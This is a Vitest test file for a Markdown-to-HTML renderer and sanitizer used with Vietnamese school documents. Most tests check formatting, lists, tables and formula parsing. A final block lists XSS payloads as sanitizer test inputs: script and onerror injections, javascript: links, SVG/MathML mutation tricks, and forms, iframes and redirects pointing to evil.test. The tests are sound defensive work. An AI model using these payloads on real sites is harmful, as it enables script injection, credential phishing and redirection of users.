import { describe, expect, it } from 'vitest'
import { toMarkdown } from './html-to-markdown.ts'
import { renderMarkdown } from './markdown.ts'
import { samples } from './samples.ts'
import { sanitize } from './html/sanitize.ts'

const text = (html: string) => new DOMParser().parseFromString(html, 'text/html').body.textContent

describe('Markdown → HTML', () => {
  it('formats bold text next to a word', () => {
    expect(renderMarkdown('**Lưu ý:**học sinh **"trích"**tiếp **đậm**')).toBe(
      '<p><strong>Lưu ý:</strong>học sinh <strong>"trích"</strong>tiếp <strong>đậm</strong></p>',
    )
  })

  it('ends bold text before a blank that a model has put inside it', () => {
    expect(renderMarkdown('**GV: **Hỏi. **HS: **Đáp.')).toBe(
      '<p><strong>GV:</strong> Hỏi. <strong>HS:</strong> Đáp.</p>',
    )
    expect(renderMarkdown('- **Sản phẩm: ** câu trả lời')).toContain('<strong>Sản phẩm:</strong> câu')
    expect(renderMarkdown('**a** b: **c** d. **e**')).toBe(
      '<p><strong>a</strong> b: <strong>c</strong> d. <strong>e</strong></p>',
    )
    for (const literal of ['2 ** 3 ** 4', 'a. ** b ** c', 'x: ** y'])
      expect(renderMarkdown(literal)).toBe(`<p>${literal}</p>`)
  })

  it('strikes through text next to a word', () => {
    expect(renderMarkdown('~~Câu cũ.~~Câu mới, sai~~(cũ)~~mới')).toBe('<p><s>Câu cũ.</s>Câu mới, sai<s>(cũ)</s>mới</p>')
  })

  it('keeps multiplication signs and blanks, and writes them back', () => {
    const markdown = [
      'Tính 100*100/400*56 rồi so với 5*4=20 và 6*3=18, **2*3** và *chữ*.',
      '| 2*3*4 | ____/____/______ |\n|---|---|\n| **____/____** | __ __ |',
      '______________\n______________',
    ].join('\n\n')
    const html = renderMarkdown(markdown)
    expect(html).toBe(
      '<p>Tính 100*100/400*56 rồi so với 5*4=20 và 6*3=18, <strong>2*3</strong> và <em>chữ</em>.</p>' +
        '<table><tbody><tr><th><p>2*3*4</p></th><th><p>____/____/______</p></th></tr>' +
        '<tr><td><p><strong>____/____</strong></p></td><td><p>__ __</p></td></tr></tbody></table>' +
        '<p>______________<br>______________</p>',
    )
    expect(renderMarkdown(toMarkdown(html))).toBe(html)
    const glued = '<p><strong>(1)</strong><em>2</em>*3, <em>(a b)</em>(c), <strong>2</strong>3<strong>4</strong></p>'
    expect(renderMarkdown(toMarkdown(glued))).toBe(glued)
  })

  it.each([
    ['Một câu dài, có dấu chấm ở cuối.\n---\nTiếp', '<p>Một câu dài, có dấu chấm ở cuối.</p><hr><p>Tiếp</p>'],
    ['Ngắn\n---', '<p>Ngắn</p><hr>'],
    ['Dòng một\nDòng hai\n-----', '<p>Dòng một<br>Dòng hai</p><hr>'],
    ['Câu có dấu chấm.\n=====\nTiếp', '<p>Câu có dấu chấm.</p><hr><p>Tiếp</p>'],
    ['Tên bài\n=======', '<h1>Tên bài</h1>'],
    ['Mục tiêu\n--------', '<h2>Mục tiêu</h2>'],
    ['- ý cuối\n---\nHết', '<ul><li><p>ý cuối</p></li></ul><hr><p>Hết</p>'],
    ['Kí tên\n--', '<p>Kí tên<br>--</p>'],
  ])('reads the lines of %j', (markdown, html) => expect(renderMarkdown(markdown)).toBe(html))

  it('keeps the numbers of a list as they were written', () => {
    const lists = (markdown: string) => {
      const html = renderMarkdown(markdown)
      expect(renderMarkdown(toMarkdown(html))).toBe(html)
      const { body } = new DOMParser().parseFromString(html, 'text/html')
      return [...body.querySelectorAll('ol')].map(({ start, children }) => [start, children.length])
    }
    expect(lists('1. a\n2. b\n5. c\n6. d')).toEqual([
      [1, 2],
      [5, 2],
    ])
    expect(lists('1. a\n2. b\n\n1. c')).toEqual([
      [1, 2],
      [1, 1],
    ])
    expect(lists('1. a\n1. b\n1. c')).toEqual([[1, 3]])
    expect(lists('3. a\n4. b')).toEqual([[3, 2]])
    expect(lists('- x\n  1. a\n  4. b')).toEqual([
      [1, 1],
      [4, 1],
    ])
    expect(lists('<ol><li>a</li><li value="5">b</li><li>c</li></ol>')).toEqual([
      [1, 1],
      [5, 2],
    ])
  })

  it('keeps answer space at the ends of a paragraph or alone, and drops a meaningless break', () => {
    const html = renderMarkdown('| <br><br><br>Trần | Kí<br><br><br> |\n|---|---|\n| <br>a | b<br> |\n\n<br><br><br>')
    expect(html).toContain('<p><br><br><br>Trần</p>')
    expect(html).toContain('<p>Kí<br><br><br></p>')
    expect(html).toContain('<td><p>a</p></td><td><p>b</p></td>')
    expect(html).toContain('</table><p><br><br><br></p>')
    expect(renderMarkdown(toMarkdown(html))).toBe(html)
  })

  it('reads formulas without dollars only where they are unambiguous, and writes the rest back', () => {
    expect(renderMarkdown('\\ce{HCl}, 5 cm^2^, H~2~O, x^{2}')).toBe(
      '<p><span data-type="inline-math" data-latex="\\ce{HCl}"></span>, 5 cm<sup>2</sup>, H<sub>2</sub>O, x<sup>2</sup></p>',
    )
    for (const words of ['\\ce{HCl} a^2^ H~2~O a_{1}', '10^8 cm^2'])
      expect(text(renderMarkdown(toMarkdown(`<p>${words}</p>`)))).toBe(words)
    expect(text(renderMarkdown('từ 5~10~15 và `cm^2^`'))).toBe('từ 5~10~15 và cm^2^')
  })

  it('does the same with underscores at the start of a word', () => {
    expect(renderMarkdown('__Gạch dưới:__chữ')).toBe('<p><strong>Gạch dưới:</strong>chữ</p>')
    expect(renderMarkdown('Xem a__b, __Lưu ý:__chữ')).toBe('<p>Xem a__b, <strong>Lưu ý:</strong>chữ</p>')
    for (const words of ['snake__case__x', 'a.__b.__c', '(1)__a (2)__b', '__ a:__b'])
      expect(renderMarkdown(words)).toBe(`<p>${words}</p>`)
  })

  it('shows placeholders and tags that are only mentioned', () => {
    expect(text(renderMarkdown('<tên học sinh>, <ho ten>, thẻ <table> và thẻ <b>'))).toBe(
      '<tên học sinh>, <ho ten>, thẻ <table> và thẻ <b>',
    )
  })

  it('keeps the lines of quiz options', () => {
    expect(renderMarkdown('a) một\nb) hai')).toBe('<p>a) một<br>b) hai</p>')
  })

  it.each([
    ['$x^2$', 'x^2'],
    ['\\(x^2\\)', 'x^2'],
    ['Ta có $$x^2$$.', '\\displaystyle x^2'],
    ['dài $3 cm$', '3 cm'],
    ['\\[\nx\n+ y\n\\]', 'x\n+ y'],
    ['$$\nx\n$$', 'x'],
    ['$$\nx', 'x'],
    ['```math\nx\n```', 'x'],
    ['$a[1]>0 \\to b-->c$', 'a[1] >0 \\to b-- >c'],
    ['$a</title$ b', 'a< /title'],
    ['\\[\na </style b\n\\]', 'a < /style b'],
    ['thì $\\overline{R} = $ bao nhiêu', '\\overline{R} ='],
    ['$ \\text{nếu } x \\ge 0 $', '\\text{nếu } x \\ge 0'],
    ['$ 2x + 3 = 7 $', '2x + 3 = 7'],
    ['$5x + 3$', '5x + 3'],
    ['khai triển $2ab + b^2$', '2ab + b^2'],
    ['$ Δ = b^2 - 4ac $', 'Δ = b^2 - 4ac'],
    ['nghiệm $ α + β $', 'α + β'],
    ['góc A$α$', 'α'],
    ['10$^3$ kg', '^3'],
    ['10$^{-3}$', '^{-3}'],
    ['2$^{10}$', '^{10}'],
    ['2$\\pi$', '\\pi'],
    ['số 5$x$', 'x'],
    ['giá trị $x$', 'x'],
    ['\\begin{align*}\na &= b \\\\\nc &= d\n\\end{align*}', '\\begin{align*}\na &= b \\\\\nc &= d\n\\end{align*}'],
    ['Ta có:\n\\begin{equation}x\\end{equation}\nSau', '\\begin{equation}x\\end{equation}'],
    ['\\begin{eqnarray}a&=&b\\end{eqnarray}', '\\begin{array}{rcl}a&=&b\\end{array}'],
    ['Ta có: $$\n\\begin{align}a&=b\\end{align}\n$$', '\\displaystyle \\begin{align}a&=b\\end{align}'],
  ])('reads the formula in %j', (markdown, latex) => {
    const body = new DOMParser().parseFromString(renderMarkdown(markdown), 'text/html').body
    expect(body.querySelector('[data-latex]')?.getAttribute('data-latex')).toBe(latex)
  })

  it.each([
    'giá $5 và $10',
    'costs $20 or $30, "US$"',
    'từ 5$-10$',
    '$$ chỉ là hai kí hiệu\n\nthôi',
    'từ $ 5 đến $ 10',
    'gõ $ rồi \\frac thì $ hiện',
    '$ 5 \\frac $10',
    'Vé 5$/em, cả lớp 200$. =SUM($B$2:$B$10)',
    'Tỉ giá đô la Mĩ (US$) là 25.000đ, sách giá 12$.',
    'giá 5$, 6$/kg or 7$/kg',
    'giá 5$ và 6$, giá 5$ là đủ$',
    '$ 价格 + 3 $',
    '=SUM($B$2:$B$10)',
    '=SUM($B2:$B10)+B$2*$A$1, =VLOOKUP($A2,$C$2:$D$9,2,0)',
    '$ 5 - $ 10 và 200 $ + 300 $ = 500 $',
    '\\begin{align*}a\\end{align*} là cách viết',
  ])('finds no formula in %j', (markdown) => {
    expect(renderMarkdown(markdown)).not.toContain('data-latex')
  })

  it('keeps fields separated by spaces apart, also on the way back', () => {
    const html = renderMarkdown('**Trường:** A    **Tổ:** B\n\nA. 1\t\tB.  2 `a    b`')
    expect(html).toBe(
      '<p><strong>Trường:</strong> A\u2003<strong>Tổ:</strong> B</p><p>A. 1\u2003\u2003B. 2 <code>a b</code></p>',
    )
    expect(renderMarkdown(toMarkdown(html))).toBe(html)
  })

  it('reads Markdown and formulas inside an HTML table, across blank lines', () => {
    const html = renderMarkdown('<table>\n<tr><td rowspan="2">**A** $x$</td>\n\n    <td>b</td></tr>\n</table>\n\nSau')
    expect(html).toBe(
      '<table><tbody><tr><td rowspan="2"><p><strong>A</strong> <span data-type="inline-math" data-latex="x"></span></p></td>' +
        '<td><p>b</p></td></tr></tbody></table><p>Sau</p>',
    )
  })

  it('keeps code in HTML unchanged, with its indentation and empty lines', () => {
    const code = 'for i in range(3):\n    print(i * 2 * "$a$ *b*")\n\n# hết'
    const html = `<pre><code class="language-python">${code}</code></pre>`
    expect(renderMarkdown(`${html}\n\nSau`)).toBe(`${html}<p>Sau</p>`)
    expect(renderMarkdown(`<table>\n<tr><td>\n${html}\n</td></tr>\n</table>`)).toContain(`<td>${html}</td>`)
    expect(renderMarkdown('- một\n\n  <pre>\n  a &lt; b<br>\n    c <d></pre>')).toContain(
      '<pre><code>a &lt; b\n\n  c &lt;d&gt;</code></pre>',
    )
    expect(renderMarkdown('<pre> chưa đóng\n\n## Hai\n\n```\n</pre>\n```')).toContain('<h2>Hai</h2>')
  })

  it('shows nothing of closed styles and scripts', () => {
    const style = '<style>\ntd { a: b }\n\nth > b { c: `d` }\n</style>'
    expect(renderMarkdown(`${style}\n\n<table><tr><td>x</td></tr></table>`)).toBe(
      '<table><tbody><tr><td><p>x</p></td></tr></tbody></table>',
    )
    expect(renderMarkdown('Trước <script>if (a<b) alert(1)</script> sau')).toBe('<p>Trước sau</p>')
    expect(text(renderMarkdown('<style>\ntd { a: b }\n\nSau'))).toContain('td { a: b }')
    expect(text(renderMarkdown('<style> (CSS)\n\n# Hai\n\n</style>'))).toContain('Hai')
  })

  it('keeps table cells beyond the columns', () => {
    const html = renderMarkdown('| a | b |\n|---|---|\n| một | $|x|$ |\n| hai | ba | bốn |')
    expect(html).toContain('<td><p><span data-type="inline-math" data-latex="|x|"></span></p></td>')
    expect(html).toContain('<td><p>ba | bốn</p></td>')
  })

  it('rejoins a formula cut by its bars, in any cell', () => {
    const cells = (row: string) => {
      const html = renderMarkdown(`| Câu | Nội dung | Điểm |\n|---|---|---|\n${row}`)
      const table = new DOMParser().parseFromString(html, 'text/html')
      return [...table.querySelectorAll('td')].map(
        (cell) => cell.querySelector('[data-latex]')?.getAttribute('data-latex') ?? cell.textContent,
      )
    }
    expect(cells('| 7a | $F(x)\\right|_1^e$ | 0,75 |')).toEqual(['7a', 'F(x)\\right|_1^e', '0,75'])
    expect(cells('| $|x|$ | $|y| + |z|$ | 1 |')).toEqual(['|x|', '|y| + |z|', '1'])
    expect(cells('| \\(|x| = 2\\) | \\(x = \\pm 2\\) | 1 |')).toEqual(['|x| = 2', 'x = \\pm 2', '1'])
    expect(cells('| $$|x|$$ | \\[|y|\\] | c |')).toEqual(['\\displaystyle |x|', '\\displaystyle |y|', 'c'])
    expect(cells('| \\(\\left\\{ x \\;\\middle|\\; x>5 \\right\\}\\) | `a|b` | c |')).toEqual([
      '\\left\\{ x \\;\\middle|\\; x>5 \\right\\}',
      'a|b',
      'c',
    ])
    expect(cells('| giá $5 | b | c |')).toEqual(['giá $5', 'b', 'c'])
    expect(cells('| giá $5 | b | c | d |')).toEqual(['giá $5', 'b', 'c | d'])
  })

  it('splits a list of tasks and items, as the editor does', () => {
    expect(renderMarkdown('- [x] a\n- b')).toBe(
      '<ul data-type="taskList"><li data-type="taskItem" data-checked="true"><p>a</p></li></ul><ul><li><p>b</p></li></ul>',
    )
  })

  it('nests items indented by two spaces under a number, as models write them', () => {
    const outline = (markdown: string) => {
      const { body } = new DOMParser().parseFromString(renderMarkdown(markdown), 'text/html')
      const items = [...body.querySelectorAll('li, body > p, pre')]
      return items.map((item) => {
        const depth = [...body.querySelectorAll('ol, ul')].filter((list) => list.contains(item)).length
        return `${depth} ${(item.querySelector('p') ?? item).textContent}`
      })
    }
    expect(outline('1. a\n  1. b\n  2. c\n2. d')).toEqual(['1 a', '2 b', '2 c', '1 d'])
    expect(outline('1. a\n  - b\n    dòng sau\n    - c\n2. d')).toEqual(['1 a', '2 bdòng sau', '3 c', '1 d'])
    expect(outline('10. a\n   - b\n\n     đoạn hai\n11. c')).toEqual(['1 a', '2 b', '1 c'])
    expect(outline('1. a\n  2. b\n  3. c')).toEqual(['1 a', '1 b', '1 c'])
    expect(outline('- a\n  - b\n- c')).toEqual(['1 a', '2 b', '1 c'])
    expect(outline('1. a\n   - b\n     1. c\n2. d')).toEqual(['1 a', '2 b', '3 c', '1 d'])
    expect(outline('1. a\n\nb\n\n  - c')).toEqual(['1 a', '0 b', '1 c'])
    expect(outline('Mã:\n\n```js\n1. a\n  - b\n```')[1]).toBe('0 1. a\n  - b')
  })

  it('keeps footnotes in place', () => {
    expect(renderMarkdown('a[^n]\n\n[^n]: chú\n\nb')).toBe(
      '<p>a<sup data-type="footnote-ref" data-label="n">n</sup></p><div data-type="footnote" data-label="n"><p>chú</p></div><p>b</p>',
    )
  })

  it.each([
    '<div style="page-break-after: always"></div>',
    '\\newpage',
    '<!-- pagebreak -->',
    '<p style="break-before:page"></p>',
  ])('finds a page break in %j', (markdown) => {
    expect(renderMarkdown(`a\n\n${markdown}\n\nb`)).toBe('<p>a</p><div data-type="page-break"></div><p>b</p>')
  })

  it('opens links in a new tab, only for web and mail addresses', () => {
    const link = (href: string, label: string) =>
      `<a target="_blank" rel="noopener noreferrer" href="${href}">${label}</a>`
    expect(renderMarkdown('https://a.vn/x thay@truong.vn học sinh.Ai [b](ftp://c) [d](/e)')).toBe(
      `<p>${link('https://a.vn/x', 'https://a.vn/x')} ${link('mailto:thay@truong.vn', 'thay@truong.vn')} học sinh.Ai b d</p>`,
    )
  })

  it('links to a picture instead of fetching it', () => {
    for (const markdown of ['![ảnh](https://a.vn/b.png)', '<img alt="ảnh" src="https://a.vn/b.png">']) {
      expect(renderMarkdown(markdown)).toContain('href="https://a.vn/b.png">ảnh</a>')
      expect(renderMarkdown(markdown)).not.toContain('<img')
    }
  })

  it.each([
    '![một "hai" *ba*](data:image/png;base64,iVBORw0KGgo=)',
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="một &quot;hai&quot; ba">',
  ])('shows a picture embedded in the text: %j', (markdown) => {
    expect(renderMarkdown(markdown)).toBe(
      '<p><img src="data:image/png;base64,iVBORw0KGgo=" alt="một &quot;hai&quot; ba"></p>',
    )
  })

  it.each(['svg+xml', 'bmp', 'png,x" onerror="alert(1)'])('shows no picture of type %j', (kind) => {
    expect(
      renderMarkdown(`![a](data:image/${kind};base64,AAAA) <img src="data:image/${kind};base64,AAAA" alt="b">`),
    ).not.toContain('<img')
  })

  it('keeps every word of the samples', () => {
    for (const markdown of Object.values(samples)) {
      const rendered = text(renderMarkdown(markdown))
      for (const word of ['Hằng', 'Thông', 'hiểu', 'khối', 'trống', 'kiểu', 'đóng', 'mol(m,'].filter((word) =>
        markdown.includes(word),
      ))
        expect(rendered).toContain(word)
    }
  })
})

describe('hostile Markdown', () => {
  const attacks = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<table><tr><td background="javascript:alert(1)" onclick=alert(1)>x</td></tr></table>',
    '<p onmouseover=alert(1) style="position:fixed;inset:0;z-index:9;background:url(https://evil.test/t)">x</p>',
    '<a href="javascript:alert(1)">x</a> <a href="java&#x09;script:alert(1)">y</a> <a href=" data:text/html,x">z</a>',
    '[x](javascript:alert(1)) [y](<java\nscript:alert(1)>) ![z](data:image/svg+xml;base64,AAAA) <javascript:alert(1)>',
    '<form action="https://evil.test"><input name=user><button>Go</button><textarea>a</textarea><select><option>b</select></form>',
    '<a id="location" name="location" href="https://a.vn">x</a><p id="__proto__" class="overlay" name="body">y</p>',
    '<iframe src="https://evil.test"></iframe><object data=x></object><embed src=x><link rel=stylesheet href=x><base href="//evil.test">',
    '<meta http-equiv="refresh" content="0;url=https://evil.test"><video src=https://evil.test/v autoplay><audio src=x>',
    '<span data-type="inline-math" data-latex="\\href{javascript:alert(1)}{x}" onclick=alert(1)>x</span>',
    '<div data-type="block-math" data-latex="x" data-x="y" contenteditable></div>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<b\u0000 onclick=alert(1)>x</b>',
    '| <img src=x onerror=alert(1)> |\n|---|\n| <u onclick=alert(1)>x</u> |',
    '[^1]: <img src=x onerror=alert(1)>\n\na[^1] [^"><img src=x onerror=alert(1)>]',
    '```"><img src=x onerror=alert(1)>\nx\n```',
  ]
  const allowed: Record<string, RegExp> = {
    href: /^(?:https?:|mailto:)/,
    target: /^_blank$/,
    rel: /^noopener noreferrer$/,
    title: /^/,
    colspan: /^\d+$/,
    rowspan: /^\d+$/,
    style: /^text-align: \w+;?$/,
    class: /^language-[\w-]+$/,
    'data-type': /^[\w-]+$/,
    'data-latex': /^/,
    'data-label': /^/,
    'data-checked': /^(?:true|false)$/,
  }

  it.each(attacks)('is rendered harmless: %j', (attack) => {
    const body = new DOMParser().parseFromString(
      renderMarkdown(`Trước ${attack}\n\n${attack}\n\nSau`),
      'text/html',
    ).body
    expect(
      body.querySelectorAll(
        'script,style,svg,math,img,form,input,button,textarea,select,iframe,object,embed,link,base,meta,video,audio,noscript',
      ),
    ).toHaveLength(0)
    const attributes = [...body.querySelectorAll('*')].flatMap((element) => [...element.attributes])
    expect(attributes.filter(({ name, value }) => !allowed[name]?.test(value))).toEqual([])
    expect(body.textContent).toContain('Sau')
  })

  it('contains no picture that the sanitizer has not checked', () => {
    const source = (html: string) => sanitize(html).querySelector('img')?.getAttribute('src')
    expect(source('<img src="data:image/png;base64,AAAA">')).toBe('data:image/png;base64,AAAA')
    for (const address of [
      'https://evil.test/t.png',
      '//evil.test/t',
      'data:image/svg+xml;base64,AAAA',
      'data:text/html,x',
    ])
      expect(source(`<img src="${address}">`)).toBeNull()
  })

  it.each([
    '<style>',
    '<style',
    '<noscript>',
    '<!--',
    '<textarea>',
    '<title>',
    '<xmp>',
    '<plaintext>',
    '<select>',
    '<template>',
  ])('is not lost after an unclosed %s', (tag) => {
    const html = renderMarkdown(`Một\n\n${tag}\n\n## Hai\n\n- **ba**`)
    expect(html).toContain('<h2>Hai</h2><ul><li><p><strong>ba</strong></p></li></ul>')
  })
})
